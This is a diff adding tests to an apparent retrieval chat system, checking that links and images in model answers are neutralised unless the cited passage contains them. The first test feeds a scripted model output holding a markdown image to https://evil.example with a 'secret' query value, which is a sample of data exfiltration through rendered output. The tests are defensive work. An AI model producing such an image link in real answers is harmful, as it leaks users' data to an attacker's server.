@@ -409,6 +409,30 @@ def test_a_passage_cannot_change_the_system_message_nor_leave_its_delimiters(
     assert systems[0] != systems[1], "the delimiter is another one in each request"
 
 
+def test_links_of_a_model_are_text_unless_the_cited_passage_has_them(braid: Braid, user_id: int, put: Put) -> None:
+    dataset = braid.ledger.datasets(user_id)[0].id
+    put(dataset, "zebra.md", "Zebras are striped, see https://zebra.example/stripes.")
+    put(dataset, "other.md", "Zebras run, see https://other.example.")
+    said = "![x](https://evil.example?q=secret) [a](https://zebra.example/stripes) [b](https://other.example) [{}]"
+    asked = ChatRequest(user_id, "zebras striped", options={"k": 5})
+    found = Conversation(braid).ask(asked).search.hits
+    number = 1 + [hit.passage.source for hit in found].index("zebra.md")
+    summary = ScriptedModel("fake:summary", list(said.format(number)))
+    events = list(Conversation(braid, models=models(summary=summary)).stream(asked))
+    streamed = "".join(event.text for event in events if isinstance(event, AnswerText))
+    image = r"\![x] (https://evil.example?q=secret)"
+    assert streamed == f"{image} [a] (https://zebra.example/stripes) [b] (https://other.example) [{number}]"
+    result = events[-1]
+    assert isinstance(result, ChatResult)
+    assert result.text == f"{image} [a](https://zebra.example/stripes) [b] (https://other.example) [{number}]"
+
+
+def test_pictures_of_a_passage_are_text_in_an_answer_without_a_model(braid: Braid, user_id: int, put: Put) -> None:
+    put(braid.ledger.datasets(user_id)[0].id, "zebra.md", "Zebras are striped ![x](https://zebra.example/p.png).")
+    result = Conversation(braid).ask(ChatRequest(user_id, "zebras striped"))
+    assert r"\![x](https://zebra.example/p.png)" in result.text
+
+
 def test_passages_are_cut_at_sentence_ends_within_the_budget(braid: Braid, user_id: int, put: Put) -> None:
     dataset = braid.ledger.datasets(user_id)[0].id
     for number in range(8):
